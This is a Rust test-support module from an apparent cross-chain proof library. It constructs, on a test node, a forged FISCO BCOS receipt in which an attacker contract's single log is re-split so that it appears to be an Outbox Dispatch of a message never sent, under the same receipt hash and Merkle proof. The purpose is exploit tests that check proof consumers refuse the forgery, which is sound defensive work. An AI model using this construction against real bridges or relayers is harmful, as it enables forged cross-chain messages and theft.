//! The receipt-hash forgery of docs/fisco.md ("Receipt hash"), built for real on the test node:
//! an attacker's contract emits one log whose data spells `<Outbox address>‖<Dispatch
//! topics>‖<Dispatch data>`, and its genuine receipt, split differently, shows an Outbox
//! `Dispatch` of a message the Outbox never sent, under the same receipt hash, Merkle proof
//! and sealed header. Exploit tests present the split receipt to each FISCO BCOS proof
//! consumer and check it is refused.

use alloy::sol_types::{SolCall, SolEvent};
use causeway_proofs::fisco::json::{BlockJson, LogJson, ReceiptJson};
use causeway_proofs::fisco::{NodeSecret, json::to_hex};
use causeway_proofs::{Hash32, Message};

use super::{FiscoContracts, FiscoNode, node_error};
use crate::contracts::bindings::{AmbiguousLog, Outbox};
use crate::{Error, Result};

/// A forged Outbox `Dispatch` and the genuine receipt it was split from.
#[derive(Debug, Clone)]
pub struct ForgedDispatch {
    /// The message the forged log carries; the Outbox never sent it.
    pub message: Message,
    /// The attacker's transaction (to its `AmbiguousLog` contract).
    pub transaction: Hash32,
    /// Its block, header and seal, as `getBlockByNumber` returns it (transaction hashes).
    pub block: BlockJson,
    /// The receipt as the node stores it, with its Merkle proof: one log of the attacker's.
    pub genuine: ReceiptJson,
    /// The same receipt split in two logs, the second an Outbox `Dispatch` of `message`: the
    /// same receipt hash, so the same proof verifies.
    pub forged: ReceiptJson,
    /// The position of the forged `Dispatch` among `forged`'s logs.
    pub log_index: usize,
}

impl FiscoContracts {
    /// Deploys an `AmbiguousLog` contract from `attacker` and makes it emit the log that
    /// splits into a `Dispatch` of `message` from this Outbox (see the module's docs).
    pub async fn forge_dispatch(
        &self,
        node: &FiscoNode,
        attacker: &NodeSecret,
        message: &Message,
    ) -> Result<ForgedDispatch> {
        let encoded = message.encode();
        let id = message.id();
        let event = Outbox::Dispatch {
            id: id.0.0.into(),
            nonce: message.nonce().0,
            destination: message.destination().0,
            message: encoded.into(),
        };
        let topics: Vec<[u8; 32]> = event.encode_topics().iter().map(|t| t.0.0).collect();
        let data = event.encode_data();
        // The stored (hashed) form of the Outbox's address: 40 lowercase hex digits, no 0x.
        let outbox_text = hex::encode(self.outbox.0);
        let mut crafted = outbox_text.clone().into_bytes();
        for t in &topics {
            crafted.extend_from_slice(t);
        }
        crafted.extend_from_slice(&data);

        let ambiguous = node.deploy(attacker, "AmbiguousLog", Vec::new()).await?;
        let call = AmbiguousLog::emitRawCall {
            data: crafted.into(),
        }
        .abi_encode();
        let sent = node.send(attacker, ambiguous, call, "emitRaw").await?;
        let transaction: Hash32 = sent
            .transaction_hash
            .parse()
            .map_err(|e| node_error("reading the attacker's transaction hash", e))?;
        let genuine = node
            .ledger
            .receipt_json(&transaction, true)
            .ok_or_else(|| node_error("forging a Dispatch", "the receipt is not stored"))?;
        let block = node
            .ledger
            .block_json(genuine.block_number, false, true)
            .ok_or_else(|| node_error("forging a Dispatch", "the block is not stored"))?;
        let [attacker_log] = genuine.log_entries.as_slice() else {
            return Err(Error::Fisco {
                context: "forging a Dispatch",
                reason: format!("{} logs, not the attacker's one", genuine.log_entries.len()),
            });
        };
        let mut forged = genuine.clone();
        forged.log_entries = vec![
            LogJson {
                address: attacker_log.address.clone(),
                topics: Vec::new(),
                data: "0x".into(),
            },
            LogJson {
                address: format!("0x{outbox_text}"),
                topics: topics.iter().map(|t| to_hex(t)).collect(),
                data: to_hex(&data),
            },
        ];
        Ok(ForgedDispatch {
            message: message.clone(),
            transaction,
            block,
            genuine,
            forged,
            log_index: 1,
        })
    }
}
